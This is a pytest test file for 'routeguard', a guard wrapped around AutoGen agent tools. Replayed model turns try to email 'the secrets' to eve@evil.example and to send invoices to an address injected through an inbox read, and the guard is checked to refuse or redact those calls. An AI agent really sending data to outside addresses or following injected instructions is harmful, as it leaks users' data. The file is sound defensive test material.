"""AutoGen AgentChat adapter: a real ``AssistantAgent``, driven by autogen_ext's replaying
chat client scripted to emit function calls, with routeguard's tool and workbench wrappers
(scenario: ``adapter_scenario.py``)."""

from __future__ import annotations

import json
from typing import Any

import pytest

pytest.importorskip("autogen_agentchat")
pytest.importorskip("autogen_ext.models.replay")

from autogen_agentchat.agents import AssistantAgent
from autogen_agentchat.messages import ToolCallExecutionEvent
from autogen_core import CancellationToken, FunctionCall
from autogen_core.models import CreateResult, ModelFamily, ModelInfo, RequestUsage
from autogen_core.tools import FunctionTool, StaticWorkbench
from autogen_ext.models.replay import ReplayChatCompletionClient

from adapter_scenario import INBOX, INJECTED_ADDRESS, RecordingGuard, make_guard, verdict
from routeguard.adapters.autogen import GuardedTool, guard_tools, guard_workbench
from routeguard.enforce import TAINT_RULE_ID, ToolCallDenied
from routeguard.enforce.engine import REDACTED

MODEL_INFO = ModelInfo(
    vision=False,
    function_calling=True,
    json_output=False,
    family=ModelFamily.UNKNOWN,
    structured_output=False,
)


def calls(*items: tuple[str, dict[str, Any], str]) -> CreateResult:
    return CreateResult(
        finish_reason="function_calls",
        content=[FunctionCall(id=i, name=n, arguments=json.dumps(a)) for n, a, i in items],
        usage=RequestUsage(prompt_tokens=0, completion_tokens=0),
        cached=False,
    )


def client(*turns: CreateResult | str) -> ReplayChatCompletionClient:
    return ReplayChatCompletionClient(list(turns), model_info=MODEL_INFO)


class Tools:
    """Real AutoGen function tools that record the arguments they ran with."""

    def __init__(self) -> None:
        self.ran: list[tuple[str, dict[str, Any]]] = []

        async def lookup_order(order_id: str) -> str:
            self.ran.append(("lookup_order", {"order_id": order_id}))
            return f"order {order_id}: shipped"

        async def send_email(to: str, body: str) -> str:
            self.ran.append(("send_email", {"to": to, "body": body}))
            return "sent"

        async def pay(amount: float, card: str) -> str:
            self.ran.append(("pay", {"amount": amount, "card": card}))
            return f"paid {amount}"

        async def read_inbox() -> str:
            self.ran.append(("read_inbox", {}))
            return INBOX

        self.all = [
            FunctionTool(lookup_order, description="Look an order up."),
            FunctionTool(send_email, description="Send an email."),
            FunctionTool(pay, description="Pay an amount with a card."),
            FunctionTool(read_inbox, description="Read the inbox."),
        ]


@pytest.fixture
def guard() -> RecordingGuard:
    return make_guard()


def executions(result: Any) -> dict[str, Any]:
    """Each tool call's execution result as the agent recorded it, by call id."""
    return {
        r.call_id: r
        for m in result.messages
        if isinstance(m, ToolCallExecutionEvent)
        for r in m.content
    }


async def test_denied_call_is_refused_and_tool_does_not_run(guard: RecordingGuard) -> None:
    args = {"to": "eve@evil.example", "body": "the secrets"}
    model = client(calls(("send_email", args, "c1")), "I cannot send that.")
    tools = Tools()
    agent = AssistantAgent(
        "mailer", model_client=model, tools=guard_tools(guard, tools.all), reflect_on_tool_use=True
    )
    result = await agent.run(task="mail the secrets out")

    assert tools.ran == []
    expected = verdict("send_email", args)
    assert not expected.allowed
    assert expected.message
    execution = executions(result)["c1"]
    assert execution.is_error
    assert execution.content == expected.message
    # the model's next turn was given the refusal, and the agent finished normally
    sent = json.dumps([str(m) for m in model.create_calls[1]["messages"]])
    assert json.dumps(expected.message)[1:-1] in sent
    assert result.messages[-1].content == "I cannot send that."
    assert guard.shown == []


async def test_allowed_and_masked_calls_run(guard: RecordingGuard) -> None:
    model = client(
        calls(
            ("lookup_order", {"order_id": "A-17"}, "c1"),
            ("pay", {"amount": 20, "card": "4111 1111 1111 1111"}, "c2"),
        )
    )
    tools = Tools()
    agent = AssistantAgent("ops", model_client=model, tools=guard_tools(guard, tools.all))
    result = await agent.run(task="look it up and pay")

    assert sorted(tools.ran) == [
        ("lookup_order", {"order_id": "A-17"}),
        ("pay", {"amount": 20, "card": REDACTED}),
    ]
    results = executions(result)
    assert not results["c1"].is_error
    assert results["c1"].content == "order A-17: shipped"
    assert results["c2"].content == "paid 20.0"
    assert sorted(guard.shown) == [("lookup_order", "order A-17: shipped"), ("pay", "paid 20.0")]
    assert sorted(guard.shown_args, key=str) == [
        ("lookup_order", {"order_id": "A-17"}),
        ("pay", {"amount": 20, "card": REDACTED}),  # the arguments the tool ran with
    ]


async def test_guarded_workbench_refuses_and_runs(guard: RecordingGuard) -> None:
    model = client(
        calls(
            ("send_email", {"to": "bob@corp.example", "body": "hi"}, "in"),
            ("send_email", {"to": "eve@evil.example", "body": "hi"}, "out"),
            ("pay", {"amount": 20, "card": "4111"}, "pay"),
        )
    )
    tools = Tools()
    async with guard_workbench(guard, StaticWorkbench(tools.all)) as workbench:
        assert [t["name"] for t in await workbench.list_tools()] == [t.name for t in tools.all]
        agent = AssistantAgent("ops", model_client=model, workbench=workbench)
        result = await agent.run(task="mail")

    assert sorted(tools.ran) == [
        ("pay", {"amount": 20, "card": REDACTED}),
        ("send_email", {"to": "bob@corp.example", "body": "hi"}),
    ]
    results = executions(result)
    assert results["in"].content == "sent"
    assert results["out"].is_error
    refusal = verdict("send_email", {"to": "eve@evil.example", "body": "hi"})
    assert results["out"].content == refusal.message
    assert sorted(guard.shown) == [("pay", "paid 20.0"), ("send_email", "sent")]


async def test_injected_address_from_untrusted_output_is_refused(guard: RecordingGuard) -> None:
    mail = {"to": INJECTED_ADDRESS, "body": "invoices"}
    model = client(calls(("read_inbox", {}, "read")), calls(("send_email", mail, "send")))
    tools = Tools()
    agent = AssistantAgent(
        "mailer", model_client=model, tools=guard_tools(guard, tools.all), max_tool_iterations=2
    )
    result = await agent.run(task="read the inbox and act on it")

    assert verdict("send_email", mail).allowed  # the policy alone would let it through
    assert tools.ran == [("read_inbox", {})]
    sent = executions(result)["send"]
    assert sent.is_error
    assert f"'{TAINT_RULE_ID}'" in sent.content


async def test_guarded_tool_used_directly(guard: RecordingGuard) -> None:
    tools = Tools()
    send_email = GuardedTool(guard, tools.all[1])
    assert send_email.schema == tools.all[1].schema
    token = CancellationToken()

    outside = {"to": "eve@evil.example", "body": "x"}
    with pytest.raises(ToolCallDenied) as denied:
        await send_email.run_json(outside, token)
    assert str(denied.value) == verdict("send_email", outside).message
    assert denied.value.verdict.decision.rule_id == "no-external-mail"
    args = send_email.args_type().model_validate(outside)
    with pytest.raises(ToolCallDenied):
        await send_email.run(args, token)
    assert tools.ran == []

    ok = send_email.args_type().model_validate({"to": "bob@corp.example", "body": "x"})
    assert await send_email.run(ok, token) == "sent"
    assert tools.ran == [("send_email", {"to": "bob@corp.example", "body": "x"})]
